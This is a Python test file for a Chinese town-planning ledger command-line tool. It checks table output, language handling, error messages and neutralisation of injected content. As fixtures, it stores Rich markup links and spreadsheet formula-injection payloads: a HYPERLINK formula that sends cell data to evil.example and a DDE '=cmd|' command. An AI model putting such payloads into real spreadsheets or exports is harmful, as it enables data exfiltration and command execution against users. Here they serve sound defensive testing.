"""What the command line prints, as a person reads it: nothing cut when piped, stored text
never read as markup, one language a run (errors included), no Python reprs."""

from __future__ import annotations

import json
import re
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from tests.cli.conftest import Run

import townplan as tp

CJK = re.compile(r"[\u4e00-\u9fff]")
HOSTILE = ["[/]", "[red]伪造[/red]", "[link=https://evil.example]点我[/link]", "[bold"]


@pytest.fixture
def hostile_db(tmp_path: Path) -> Path:
    """A ledger whose project names are Rich markup, as an importer could store them."""
    path = tmp_path / "hostile.db"
    with tp.Ledger.open(path) as ledger:
        for n, name in enumerate(HOSTILE, start=1):
            ledger.add_project(tp.Project(code=f"X{n}", name=name,
                                          category=tp.Category.INFRASTRUCTURE))  # fmt: skip
    return path


@pytest.mark.parametrize("terminal", [False, True], ids=["piped", "terminal"])
def test_stored_text_is_printed_as_it_is(hostile_db: Path, terminal: bool) -> None:

    env_colour = {"FORCE_COLOR": "1"} if terminal else {}
    for args in (["projects", hostile_db], ["search", hostile_db, "伪造"],
                 ["history", hostile_db, "X2"], ["history", hostile_db, "X1"]):  # fmt: skip
        from click.testing import CliRunner

        from townplan.cli import cli

        env = {"COLUMNS": "200", "TOWNPLAN_LANG": "zh",
               "TTY_COMPATIBLE": "1" if terminal else "0", **env_colour}  # fmt: skip
        result = CliRunner(env=env).invoke(cli, [str(a) for a in args])
        assert result.exit_code == 0, (args, result.output, result.exception)
        text = result.stdout
        assert "\x1b]8;" not in text  # no terminal hyperlink
        assert "\x1b[31m" not in text and "\x1b[1;31m" not in text  # nothing turned red
        plain = re.sub(r"\x1b\[[0-9;]*m", "", text)
        if args[0] == "projects":
            for name in HOSTILE:
                assert name in plain, (name, plain)
        elif args[-1] == "X2":
            assert "[red]伪造[/red]" in plain
    # the report files keep the names as text too
    with tp.Ledger.open(hostile_db) as ledger:
        assert [p.name for p in ledger.query().projects()] == HOSTILE


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A3,"点击查看")', "@SUM(A1)", "+1+1",
            "-2+3", "\t=1", "\r=1"]  # fmt: skip


def test_piped_tables_never_carry_a_live_formula(run: Any, tmp_path: Path) -> None:
    db = tmp_path / "formulas.db"
    with tp.Ledger.open(db) as ledger:
        ledger.add_units(["=cmd|'/c calc'!A0"])
        for n, name in enumerate(FORMULAS, start=1):
            ledger.add_project(tp.Project(code=f"X{n}", name=name, responsible_unit=
                "=cmd|'/c calc'!A0", category=tp.Category.INFRASTRUCTURE))  # fmt: skip
    header, *lines = run.ok("projects", db).stdout.splitlines()
    rows = [line.split("\t") for line in lines]
    names = header.split("\t")
    name, unit = names.index("项目名称"), names.index("责任单位")
    assert len(rows) == len(FORMULAS)
    for row, stored in zip(rows, FORMULAS, strict=True):
        # the stored text with an apostrophe before it, tabs and line breaks as spaces
        assert row[name] == "'" + " ".join(stored.replace("\t", " ").splitlines())
        assert row[unit] == "'=cmd|'/c calc'!A0"
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
    # in a terminal the text is shown as it is stored
    shown = run.ok("projects", db, "--limit", "2", terminal=True).stdout
    assert "@SUM(A1)" in shown and "'@SUM" not in shown


def test_piped_tables_are_whole_tab_separated_lines(run: Any, sample_db: Path) -> None:
    text = run.ok("projects", sample_db, columns=40).stdout
    header, *rows = text.splitlines()
    assert header.split("\t") == ["编号", "项目名称", "类别", "阶段", "板块", "责任单位", "总投资"]
    assert len(rows) == 40 and all(len(r.split("\t")) == 7 for r in rows)
    assert "…" not in text
    with tp.Ledger.open(sample_db) as town:
        first = town.project("SZ2013-001")
    assert rows[0].split("\t")[-1] == "45.00亿元" == first.total_investment.format_cn(places=2)
    assert rows[0].split("\t")[1] == first.name


def test_a_narrow_terminal_wraps_but_never_cuts(run: Any, sample_db: Path) -> None:
    styled = run.ok("projects", sample_db, "--limit", "3", columns=60, terminal=True).stdout
    text = re.sub(r"\x1b\[[0-9;]*m", "", styled)  # bold headers
    assert "…" not in text
    assert max(len(line) for line in text.splitlines()) <= 60
    assert "SZ2013-001" in text and "45.00亿元" in text


def test_money_has_thousands_separators(run: Any, tmp_path: Path) -> None:
    text = run.ok("generate", tmp_path / "g.db", "--size", "2000", "--months", "0").stdout
    amount = re.search(r"总投资 ([\d,.]+)亿元", text)
    assert amount is not None and "," in amount.group(1)


def test_generate_and_rollup_print_sentences_not_reprs(run: Any, tmp_path: Path) -> None:
    town = tmp_path / "a.db"
    result = run.ok("generate", town, "--size", "200", "--months", "2", "--town", "甲镇")
    assert result.stdout.startswith("已生成 200 个项目")
    rolled = run.ok("rollup", tmp_path / "city.db", town).stdout
    for text in (result.stdout, rolled):
        assert not re.search(r"\w+\(\w+=", text), text  # no attrs repr
        assert "Decimal(" not in text and "Money(" not in text
    assert rolled.startswith("已将 1 个镇汇总到")
    # piped, a job this small draws nothing and says nothing of its progress
    assert result.stderr == "" and rolled.count("\r") == 0
    drawn = run.ok("generate", tmp_path / "b.db", "--size", "200", "--months", "2", terminal=True)
    assert "600/600" in drawn.stderr  # in a terminal: a bar with counts


def test_json_rates_are_rounded_to_four_places(run: Any, sample_db: Path) -> None:
    rows = json.loads(run.ok("projects", sample_db, "--json", "--on", "2013-06-30").stdout)
    rates = [r["completion_rate"] for r in rows if r["completion_rate"] is not None]
    assert rates and all(re.fullmatch(r"-?\d+\.\d{4}", r) for r in rates)
    with tp.Ledger.open(sample_db) as town:
        exact = {r["code"]: r["completion_rate"]
                 for r in town.query().projects().on(date(2013, 6, 30)).rows()}  # fmt: skip
    for row in rows:
        if row["completion_rate"] is not None:
            assert abs(Decimal(row["completion_rate"]) - exact[row["code"]]) <= Decimal("0.00005")


def test_english_runs_speak_english(sample_db: Path, tmp_path: Path) -> None:
    run = Run("en")
    text = run.ok("bulletin", sample_db, "--month", "2013-06", "--out", tmp_path).stdout
    title, *lines = text.splitlines()
    assert title == "Major projects (三重): progress bulletin, 2013-06"  # 三重: a proper name
    for line in lines:
        assert not CJK.search(line.split("\t")[0]), line  # labels and messages
    assert text.splitlines()[-1].startswith("wrote ")
    assert (tmp_path / "bulletin.md").read_text(encoding="utf-8").startswith("# Major projects")
    message = run.fails("history", sample_db, "NOPE", code=1)
    assert message.startswith("error: no project 'NOPE'")


def test_the_language_option_before_the_command(sample_db: Path, tmp_path: Path) -> None:
    text = Run("zh").ok("--lang", "en", "bulletin", sample_db, "--month", "2013-06",
                        "--out", tmp_path).stdout  # fmt: skip
    assert text.splitlines()[-1].startswith("wrote ")


@pytest.mark.long
@pytest.mark.parametrize(("lang", "last"), [("zh", "已写入 "), ("en", "wrote ")])
def test_the_demo_ends_in_the_runs_language(tmp_path: Path, lang: str, last: str) -> None:
    result = Run(lang).ok("demo", "--out", tmp_path / "demo")
    assert result.stdout.splitlines()[-1].startswith(last)
    assert (tmp_path / "demo" / "bulletin.docx").is_file()


def test_chinese_errors(run: Any, sample_db: Path, tmp_path: Path) -> None:
    assert (
        run.fails("history", sample_db, "NOPE", code=1)
        == f"错误：台账 {sample_db} 中没有项目 'NOPE'"
    )
    message = run.fails("bulletin", sample_db, "--month", "2013-13", code=2)
    assert re.match(r"用法：\S+ bulletin \[选项\] LEDGER", message), message
    assert "错误：'--month' 的值无效：'2013-13' 不是形如 2013-06 的月份" in message
    message = run.fails("bulletin", sample_db, code=2)
    assert "错误：缺少选项 '--month'" in message
    message = run.fails("summary", sample_db, "--year", "2013", "--format", "pdf", code=2)
    assert "'pdf' 不是可选的值（md、html、docx、csv、xlsx、png、all）" in message


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_a_path_that_cannot_be_written_is_one_line(
    sample_db: Path, tmp_path: Path, lang: str
) -> None:
    for what in ("register", "progress", "json"):
        target = tmp_path / "nonexist" / "dir" / f"{what}.xlsx"
        message = Run(lang).fails("export", what, sample_db, target, code=1)
        assert str(target) in message and "Traceback" not in message
        assert ("目录不存在" if lang == "zh" else "the directory does not exist") in message
        assert not target.parent.exists()


def test_progress_into_an_empty_ledger_asks_for_the_register(run: Any, tmp_path: Path) -> None:
    ledger = tmp_path / "empty.db"
    run.ok("new", ledger)
    sheet = tmp_path / "june.csv"
    rows = ["项目编号,月份,本月完成（万元）"] + [f"SZ2013-{n:03d},2013-06,10" for n in range(1, 35)]
    sheet.write_text("\n".join(rows) + "\n", encoding="utf-8")
    result = run("import", "progress", ledger, sheet)
    assert result.exit_code == 1
    lines = result.stderr.strip().splitlines()
    assert (
        len(lines) == 1 and "请先导入项目库" in lines[0] and "townplan import register" in lines[0]
    )
    assert (
        Run("en")("import", "progress", ledger, sheet).stderr.count("import the register first")
        == 1
    )


def test_hints_name_the_options(run: Any, town_db: Path, tmp_path: Path) -> None:
    sheet = tmp_path / "sheet.csv"
    sheet.write_text("项目编号,本月完成（万元）\nSZ2013-001,10\n", encoding="utf-8")
    message = Run("en").fails("import", "progress", town_db, sheet, code=1)
    assert "--month" in message and "period=" not in message


@pytest.mark.long
def test_a_missing_chinese_font_is_said_once_in_plain_words(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from townplan.reports import charts

    monkeypatch.setattr(charts, "cjk_font", lambda: None)
    monkeypatch.setattr(charts, "_warned", [])
    result = Run("zh").ok("demo", "--out", tmp_path / "demo")
    notes = [line for line in result.stderr.splitlines() if line.startswith("注意：未安装中文字体")]
    assert len(notes) == 1  # three reports with charts, one note
    assert "CJKFontWarning" not in result.stderr and "warn(" not in result.stderr
    assert "fonts-noto-cjk" in notes[0]
    # English charts need no Chinese font: nothing to say
    english = Run("en").ok("demo", "--out", tmp_path / "en")
    assert "font" not in english.stderr
